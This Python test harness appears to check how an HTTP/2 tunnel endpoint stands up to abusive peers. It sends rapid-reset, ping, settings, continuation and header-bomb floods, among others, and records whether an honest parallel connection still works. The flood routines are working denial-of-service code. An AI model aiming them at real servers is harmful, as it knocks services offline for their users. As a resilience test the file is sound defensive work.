"""Attacks on HTTP/2 by somebody with a good certificate, and an honest connection beside each.

abuse.py client HOST CERTIFICATE ROOTS    attacks HOST:15008; for each attack a line of JSON: {"attack", "goaway", "closed", "frames", "honest"}
abuse.py server HOST CERTIFICATE ROOTS    listens on HOST:15008 and attacks whoever opens a stream; a line on standard input names the next attack ("" serves honestly), answered with "attack"; a tunnel that ended is told as JSON
"""
import json
import socket
import struct
import sys
import threading

from replay import CONTINUATION, DATA, GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, Connection, context
from tls_pipe import TlsPipe

MOST_FRAMES = 50_000
ZERO, ONE, CANCEL = struct.pack("!I", 0), struct.pack("!I", 1), struct.pack("!I", 8)
OK = b"\x88"


def request(port):
    authority = ("10.88.0.2:%d" % port).encode()
    return b"\x00\x07:method\x07CONNECT\x00\x0a:authority" + bytes([len(authority)]) + authority


def step(attack, turn, stream):
    """Frames of one turn: (type, flags, stream, payload)."""
    own = 2 * turn + 3
    return {
        "rapid reset": [(HEADERS, 4, own, request(8080)), (RST_STREAM, 0, own, CANCEL)],
        "resets that we make it send": [(HEADERS, 4, own, request(8080)), (WINDOW_UPDATE, 0, own, ZERO)],
        "pings": [(PING, 0, 0, bytes(8))],
        "settings": [(SETTINGS, 0, 0, b"")],
        "data without a byte": [(DATA, 0, stream, b"")],
        "data of padding": [(DATA, 8, stream, b"\0")],
        "window updates": [(WINDOW_UPDATE, 0, 0, ONE)],
        "priorities": [(2, 0, own, bytes(5))],
        "unknown frames": [(0x42, 0, 0, bytes(10))],
        "goaways": [(GOAWAY, 0, 0, struct.pack("!II", 0x7FFFFFFF, 0))],
        "continuations": [(CONTINUATION if turn else HEADERS, 0, own if not turn else 3, b"")],
        "header bomb": [(HEADERS, 4, own, request(8080) + b"\x40\x01x\x7f\x81\x1e" + b"v" * 3968 + b"\xbe" * 16000)],
        "answer that is none": [(HEADERS, 4, stream, b"\x00\x01x\x011")],
    }[attack]


SERVER_ATTACKS = ["rapid reset", "resets that we make it send", "pings", "settings", "data without a byte", "data of padding", "window updates", "priorities", "unknown frames", "goaways", "continuations", "header bomb"]


def flood(connection, attack, stream):
    frames = 0
    try:
        for turn in range(MOST_FRAMES):
            if connection.goaway or connection.closed:
                break
            for frame in step(attack, turn, stream):
                connection.frame(*frame)
                frames += 1
    except OSError:
        pass    # it has hung up
    connection.wait(lambda: False if not connection.goaway else connection.closed)
    return frames


def dial(host, certificate, roots):
    return Connection(TlsPipe(socket.create_connection((host, 15008), timeout=60), context(False, certificate, roots), is_server=False), is_server=False)


def echo(connection, stream):
    """Whether a CONNECT on this tunnel brings its bytes back."""
    log = connection.log(stream)
    connection.frame(HEADERS, 4, stream, request(8080))
    connection.frame(DATA, 1, stream, b"honest")
    connection.wait(lambda: log.ended or log.was_reset)
    return log.entries[-2:] == ["DATA b'honest'", "END"]


def run_client(host, certificate, roots):
    honest = dial(host, certificate, roots)
    for number, attack in enumerate(SERVER_ATTACKS):
        hostile = dial(host, certificate, roots)
        hostile.frame(HEADERS, 4, 1, request(8080))
        hostile.wait(lambda: hostile.log(1).has_headers)
        frames = flood(hostile, attack, 1)
        print(json.dumps({"attack": attack, "goaway": hostile.goaway, "closed": hostile.closed, "frames": frames, "honest": echo(honest, 2 * number + 1)}), flush=True)
        hostile.tls.close()


def run_server(host, certificate, roots):
    state = {"attack": ""}

    def on_headers(connection, stream):
        if not state["attack"]:
            connection.frame(HEADERS, 4, stream, OK)
            connection.wait(lambda: connection.log(stream).data_bytes)
            connection.frame(DATA, 0, stream, b"honest")
            connection.wait(lambda: connection.log(stream).ended)
            connection.frame(DATA, 1, stream, b"")
            return
        if state["attack"] != "answer that is none":
            connection.frame(HEADERS, 4, stream, OK)
        frames = flood(connection, state["attack"], stream)
        print(json.dumps({"attack": state["attack"], "goaway": connection.goaway, "closed": connection.closed, "frames": frames, "honest": True}), flush=True)

    def serve(sock):
        try:
            Connection(TlsPipe(sock, context(True, certificate, roots), is_server=True), is_server=True, on_headers=on_headers).reader.join()
        except (OSError, EOFError):
            pass

    def accept(listener):
        while True:
            sock, _ = listener.accept()
            sock.settimeout(60)
            threading.Thread(target=serve, args=(sock,), daemon=True).start()

    threading.Thread(target=accept, args=(socket.create_server((host, 15008), backlog=64),), daemon=True).start()
    print("ready", flush=True)
    for line in sys.stdin:
        state["attack"] = line.rstrip("\n")
        print("attack", flush=True)


if __name__ == "__main__":
    (run_client if sys.argv[1] == "client" else run_server)(*sys.argv[2:])
